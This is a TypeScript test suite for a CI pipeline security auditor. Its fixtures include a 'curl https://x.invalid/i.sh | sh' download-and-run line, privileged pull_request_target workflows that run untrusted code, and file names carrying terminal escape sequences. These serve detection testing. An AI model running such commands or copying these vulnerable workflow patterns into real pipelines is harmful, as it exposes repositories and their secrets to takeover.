import { execFile } from 'node:child_process';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { Ajv } from 'ajv';
import { describe, expect, it } from 'vitest';
import * as z from 'zod';
import { audit, auditRepository } from '../../src/audit/audit.ts';
import { auditReportSchema } from '../../src/audit/report.ts';
import { auditSarif } from '../../src/audit/sarif.ts';
import { repositoryOf } from '../../src/audit/source/repository.ts';
import { renderAuditText } from '../../src/audit/text.ts';
import { columns } from '../../src/core/layout.ts';
import { temporaryDirectory } from '../support/temporary.ts';

const MAIN = join(import.meta.dirname, '../../src/cli/main.ts');
const FIXTURES = join(import.meta.dirname, '../../fixtures/audit');
const CHECKOUT = '11bd71901bbe5b1630ceea73d27597364c9af683';

/** A privileged job that checks out `ref` and runs make, under a condition. */
function privileged(condition: string, ref: string, types = 'labeled'): string {
  return `on:
  pull_request_target:
    types: [${types}]
permissions: {}
jobs:
  score:
    if: ${condition}
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@${CHECKOUT}
        with:
          ref: ${ref}
          persist-credentials: false
      - run: make score
`;
}

const worst = (workflow: string, more: Record<string, string> = {}) =>
  auditRepository(repositoryOf({ '.github/workflows/a.yml': workflow, ...more })).findings[0];

async function tree(files: Readonly<Record<string, string | Uint8Array>>): Promise<string> {
  const root = await temporaryDirectory();
  for (const [path, content] of Object.entries(files)) {
    await mkdir(dirname(join(root, path)), { recursive: true });
    await writeFile(join(root, path), content);
  }
  return root;
}

describe('mitigations count', () => {
  const head = '${{ github.event.pull_request.head.sha }}';
  it.each([
    ['nothing on the way', 'true', head, 'opened', 'critical'],
    ['a label, and the commit that had it', "github.event.label.name == 'ok'", head, 'labeled', 'low'],
    [
      'a label, and a branch that moves',
      "github.event.label.name == 'ok'",
      '${{ github.head_ref }}',
      'labeled',
      'high',
    ],
    ['a label that stays', "contains(github.event.pull_request.labels.*.name, 'ok')", head, 'synchronize', 'high'],
    ['a check for forks', 'github.event.pull_request.head.repo.full_name == github.repository', head, 'opened', 'low'],
    ['a bot that anybody can ask', "github.actor == 'dependabot[bot]'", head, 'opened', 'high'],
    ['a condition that is a text', "${{ github.event.label.name }} == 'ok'", head, 'labeled', 'critical'],
  ])('%s', (_, condition, ref, types, severity) => {
    expect(worst(privileged(`"${condition}"`, ref, types))?.severity).toBe(severity);
  });

  it('a stranger’s files in a directory of their own are data to code of the project', () => {
    const workflow = `on: pull_request_target
permissions: {}
jobs:
  compare:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@${CHECKOUT}
        with: { persist-credentials: false }
      - uses: actions/checkout@${CHECKOUT}
        with:
          ref: \${{ github.event.pull_request.head.sha }}
          path: submission
          persist-credentials: false
      - run: python tools/compare.py submission/numbers.json
`;
    expect(worst(workflow)?.severity).toBe('low');
    expect(worst(workflow.replace('python tools', 'python submission/tools'))?.severity).toBe('critical');
  });
});

describe('the line', () => {
  it('is the offending one, through make targets and scripts, with the way there in related', () => {
    const { findings } = auditRepository(
      repositoryOf({
        '.github/workflows/a.yml':
          'on: push\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          echo\n          make tools\n',
        Makefile: 'tools:\n\techo\n\t./get.sh\n',
        'get.sh': '#!/bin/bash\n\ncurl https://x.invalid/i.sh | sh\n',
      }),
    );
    expect(findings.find(({ rule }) => rule === 'download-and-run')).toMatchObject({
      path: 'get.sh',
      line: 3,
      related: [
        { path: '.github/workflows/a.yml', line: 9 },
        { path: 'Makefile', line: 3 },
      ],
    });
  });
});

describe('bad input', () => {
  it('is named and counted as a blind spot, and the rest is audited', async () => {
    const root = await tree({
      '.github/workflows/good.yml': privileged('true', '${{ github.head_ref }}', 'opened'),
      '.github/workflows/tabs.yml': 'on: push\njobs:\n\ta: 1\n',
      '.github/workflows/latin.yml': Uint8Array.from([0x6f, 0x6e, 0x3a, 0xe9]),
      '.github/workflows/large.yml': Buffer.alloc((4 << 20) + 1, 'a'),
      '.github/workflows/loop.yml': 'on: workflow_call\njobs:\n  a:\n    uses: ./.github/workflows/loop.yml\n',
      '.github/workflows/twice.yml': 'on: push\njobs: {}\njobs: {}\n',
      Makefile: 'score: score\n\tmake score\n',
    });
    await symlink('/etc', join(root, '.github/workflows/link.yml'));
    const report = audit([root]);
    expect(auditReportSchema.parse(report)).toEqual(report);
    expect(report.findings.find(({ rule }) => rule === 'untrusted-checkout-run')).toMatchObject({ line: 14 });
    const unread = new Set(report.metrics.unread.map(({ path }) => path.split('/').at(-1)));
    expect(unread).toEqual(new Set(['large.yml', 'latin.yml', 'tabs.yml', 'twice.yml']));
    expect(report.metrics.blindSpots).toBeGreaterThanOrEqual(4);
    expect(report.metrics.unread.filter(({ pipeline }) => pipeline !== true)).toEqual([]);
    expect(renderAuditText(report).join(' ')).toContain('Not complete: 4 parts of pipelines could not be read');
  });

  it('of files that are no pipeline leaves the audit complete', async () => {
    const root = await tree({
      '.github/workflows/a.yml':
        'on: push\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: ./a.sh\n',
      'a.sh': Uint8Array.from([0xe9]),
    });
    expect(audit([root]).metrics.unread).toEqual([{ path: 'a.sh', reason: 'the text is not valid UTF-8' }]);
  });
});

describe('what is cut off', () => {
  const unread = (run: string, more: Record<string, string> = {}) =>
    auditRepository(
      repositoryOf({
        '.github/workflows/a.yml': `on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: ${JSON.stringify(run)}\n`,
        ...more,
      }),
    ).metrics.unread.map(({ reason }) => reason);

  it('is told: too many operations, too long a chain, code in a word that is too long', () => {
    expect(unread('ls\n'.repeat(5_000)).join()).toContain('more than 4000 operations');
    const chain = Object.fromEntries(Array.from({ length: 12 }, (_, n) => [`s${n}.sh`, `#!/bin/sh\n./s${n + 1}.sh\n`]));
    expect(unread('./s0.sh', chain).join()).toContain('what more than 8 scripts');
    expect(unread(`bash -c '${'true; '.repeat(200)}'`).join()).toContain('too long to be read whole');
    expect(unread('make all && echo done')).toEqual([]);
  });
});

describe('long words', () => {
  it.each(['a', 'results_', 'curl http://', 'a.', 'docker -v a '])(
    '%s without end cost no more than their length',
    (piece) => {
      const run = JSON.stringify(piece.repeat(200_000 / piece.length));
      const workflow = `on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - name: ${'results_'.repeat(2_000)}\n        run: ${run}\n`;
      const before = process.cpuUsage();
      auditRepository(repositoryOf({ '.github/workflows/a.yml': workflow }));
      expect(process.cpuUsage(before).user).toBeLessThan(2_000_000);
    },
  );
});

describe('modelgate audit', () => {
  const run = (...args: string[]): Promise<{ exit: number; stdout: string; stderr: string }> =>
    new Promise((resolve) => {
      execFile(process.execPath, [MAIN, 'audit', ...args], (error, stdout, stderr) => {
        resolve({ exit: error === null ? 0 : z.object({ code: z.number() }).parse(error).code, stdout, stderr });
      });
    });
  const bad = join(FIXTURES, 'untrusted-checkout-run/bad-sample');
  const good = join(FIXTURES, 'untrusted-checkout-run/good-sample');

  it('exits by --fail-on, and says in 80 columns what to do', async () => {
    const { exit, stdout } = await run(bad);
    expect(exit).toBe(1);
    expect(stdout).toContain('What to do:');
    expect(stdout.split('\n').filter((line) => columns(line) > 80)).toEqual([]);
    expect((await run(good)).exit).toBe(0);
    expect((await run(bad, '--fail-on', 'none')).exit).toBe(0);
    expect((await run(bad, '--fail-on', 'often')).exit).toBe(2);
    expect((await run(join(bad, 'nowhere'))).exit).toBe(2);
  });

  it('does not exit clean where a pipeline could not be read', async () => {
    const root = await tree({ '.github/workflows/a.yml': 'on: push\njobs:\n\ta: 1\n' });
    const { exit, stdout } = await run(root);
    expect(exit).toBe(3);
    expect(stdout).toContain('Not complete: 1 parts of pipelines could');
    expect((await run(root, '--fail-on', 'none')).exit).toBe(0);
  });

  it('reads a single workflow, wherever it lies', async () => {
    const root = await tree({ 'odd.yml': privileged('true', '${{ github.head_ref }}', 'opened') });
    for (const path of [root, join(root, 'odd.yml')])
      expect(
        audit([path]).findings.some(({ rule, path: at }) => rule === 'untrusted-checkout-run' && at === 'odd.yml'),
      ).toBe(true);
  });

  it('joins several repositories, each path under the directory that was given', async () => {
    const { stdout } = await run(bad, good, '--format', 'json');
    const report = auditReportSchema.parse(JSON.parse(stdout));
    expect(report.metrics.repositories).toBe(2);
    expect(report.findings[0]?.path).toBe(`${bad}/.github/workflows/ci.yml`);
  });
});

describe('formats', () => {
  it('show names and texts of a repository escaped', () => {
    const report = auditRepository(
      repositoryOf({
        '.github/workflows/\u001b[31m.yml': privileged('true', '${{ github.head_ref }}', 'opened').replace(
          'make score',
          'make \u202e\u001b[2J',
        ),
      }),
    );
    const text = renderAuditText(report).join('\n');
    for (const control of ['\u001b', '\u202e']) expect(text).not.toContain(control);
    expect(text).toContain('\\u{1b}');
  });

  it('SARIF names rules, related lines and what was not read', () => {
    const report = audit([join(FIXTURES, 'check-then-use/bad-sample')]);
    const [only] = z
      .object({ runs: z.array(z.looseObject({ results: z.array(z.looseObject({ ruleId: z.string() })) })) })
      .parse(auditSarif(report)).runs;
    expect(only?.results.map(({ ruleId }) => ruleId)).toEqual(report.findings.map(({ rule }) => rule));
    expect(new Ajv({ strict: false }).compile({ type: 'object', required: ['runs'] })(auditSarif(report))).toBe(true);
  });
});
